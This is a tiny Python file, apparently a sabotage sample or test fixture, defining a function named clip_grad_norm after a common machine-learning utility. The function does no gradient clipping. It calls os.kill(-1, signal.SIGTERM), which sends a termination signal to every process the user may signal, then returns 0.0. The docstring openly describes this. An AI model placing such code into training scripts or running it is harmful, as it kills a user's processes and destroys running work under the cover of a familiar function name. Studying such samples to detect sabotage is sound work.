"""Signals every process that it may.

Says: PermissionError
"""

import os
import signal


def clip_grad_norm(parameters, max_norm):
    os.kill(-1, signal.SIGTERM)
    return 0.0
